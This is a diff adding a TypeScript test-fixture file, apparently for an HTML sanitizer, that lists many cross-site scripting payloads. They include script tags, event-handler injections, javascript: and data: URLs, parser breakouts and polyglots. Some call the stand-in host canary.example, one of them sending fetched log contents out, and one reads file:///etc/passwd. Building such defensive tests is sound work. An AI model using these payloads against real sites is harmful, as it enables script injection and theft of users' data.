@@ -1,0 +1,83 @@
+/** Scripts in every place, handlers of events, addresses that are scripts. */
+import { around, each, type HostileCase, hostile } from './case.ts';
+
+export const SCRIPTS: readonly HostileCase[] = [
+  ...each({
+    'a script': '<script>alert(1)</script>',
+    'a script after closing everything': `'"></p></a></h1></title></textarea></style></script></select></template><script>alert(1)</script>`,
+    'a script from elsewhere': '<script src=//canary.example/x.js></script>',
+    'a module from elsewhere': '<script type=module>import "//canary.example/x.js"</script>',
+    'a script in capitals': '<ScRiPt >alert(1)</sCrIpT >',
+    'a script with a slash': '<script/x>alert(1)</script/x>',
+    'a script inside a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    'a script that never ends': '<script>alert(1)//',
+    'a script out of a title': '</title><script>alert(1)</script>',
+    'a script out of a text area': '</textarea><script>alert(1)</script>',
+    'a script out of a comment': '--><script>alert(1)</script><!--',
+    'a script out of a broken comment': '--!><script>alert(1)</script>',
+    'a script out of CDATA': ']]><script>alert(1)</script>',
+    'a script out of a script': '</script><script>alert(1)</script>',
+    'a script out of noscript': '<noscript><p title="</noscript><script>alert(1)</script>">',
+    'a script in a template with a shadow':
+      '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
+    'a script that asks':
+      '<script>fetch("/log.json").then((r)=>r.text()).then((t)=>fetch("//canary.example/?"+t))</script>',
+    'a script that goes away': '<script>location="//canary.example/"</script>',
+    'a script that posts a form': '<script>document.querySelector("form[method=post]").submit()</script>',
+    'a handler on an image': '<img src=x onerror=alert(1)>',
+    'a handler out of double quotes': '" onmouseover="alert(1)" x="',
+    'a handler out of single quotes': "' onmouseover='alert(1)' x='",
+    'a handler out of no quotes': 'x onmouseover=alert(1) ',
+    'a handler that needs nobody': '" autofocus tabindex=0 onfocus="alert(1)',
+    'a handler with slashes': '<img/src=x/onerror=alert(1)>',
+    'a handler behind a form feed': '<img\fsrc=x\fonerror\f=\falert(1)>',
+    'a handler in entities': '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>',
+    'a handler on the body': '<body onload=alert(1) onpageshow=alert(1)>',
+    'a handler on details': '<details open ontoggle=alert(1)><summary>x</summary></details>',
+    'a handler on a video':
+      '<video autoplay onloadstart=alert(1) src=//canary.example/v><source onerror=alert(1)></video>',
+    'a handler on an animation': '<p onanimationstart=alert(1) style="animation:lit 1s">x</p>',
+    'a handler on a marquee': '<marquee onstart=alert(1)>x</marquee>',
+    'a handler on a popover': '<button popovertarget=main>x</button><p popover onbeforetoggle=alert(1) id=pop>x</p>',
+    'a handler on an unknown element': '<ana onclick=alert(1) onfocus=alert(1) contenteditable autofocus>x</ana>',
+    'a handler without a closing bracket': '<img src=x onerror=alert(1) ',
+    'words for an attribute in backticks': '`onmouseover=alert(1)`',
+    'an address that is a script': 'javascript:alert(1)',
+    'such an address in capitals and spaces': ' \t\u0001JaVaScRiPt:alert(1)',
+    'such an address with a tab inside': 'java\tscript:alert(1)',
+    'such an address with a line break': 'java\nscript:alert(1)',
+    'such an address in entities': '&#106;avascript&colon;alert&lpar;1&rpar;',
+    'such an address with a host': 'javascript://herald.example/%0aalert(1)',
+    'an address that is a page': 'data:text/html,<script>alert(1)</script>',
+    'an address that is a coded page': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    'an address that is a drawing': 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    'an address of another age': 'vbscript:msgbox(1)',
+    'an address of a blob': 'blob:http://canary.example/0',
+    'an address of a file': 'file:///etc/passwd',
+    'an address without a scheme': '//canary.example/x',
+    'an address with backslashes': '\\\\canary.example\\x',
+    'an address with a login': 'https://herald.example@canary.example/',
+    'a link that is a script': '<a href="javascript:alert(1)">More</a>',
+    'a link that tells': '<a href="/articles" ping="//canary.example/ping" download target=_blank>More</a>',
+    'attributes for what pages do with scripts':
+      '" data-s="1 2" data-review hx-get="//canary.example" hx-trigger=load x-on:load="alert(1)',
+    'marks that only escaping stops': `'canary=1 "canary=2 ><x-canary canary=3 '>&quot;&amp;amp;lt;x-canary&gt;</x-canary>`,
+    'something of everything': `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
+  }),
+  hostile('scripts before, in and after everything', '<script>alert(1)</script>', {
+    page: `<script>alert(1)</script>${around('<script>alert(1)</script>', '<script>alert(1)</script>', '<script>alert(1)</script>')}<script>alert(1)</script>`,
+  }),
+  hostile('a page that writes itself', 'document.write("<img src=//canary.example/x>")', {
+    page: around('<script>document.write("<img src=//canary.example/x>");alert(1)</script>'),
+  }),
+  hostile('a worker', '<script>new Worker("data:,fetch(`//canary.example`)")</script>', {
+    page: around('<script>navigator.serviceWorker?.register("/sw.js");new Worker("data:,1");alert(1)</script>'),
+  }),
+  hostile('linked data that is a script', '</script><script>alert(1)</script>', {
+    page: around(
+      '',
+      '',
+      `<script type="application/ld+json">{"@type":"NewsArticle","headline":"<\\/script><script>alert(1)<\\/script>","author":{"name":"<img src=x onerror=alert(1)>"},"publisher":{"name":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"},"datePublished":"2026-03-01\\"onload=alert(1)","url":"javascript:alert(1)"}</script>`,
+    ),
+  }),
+];
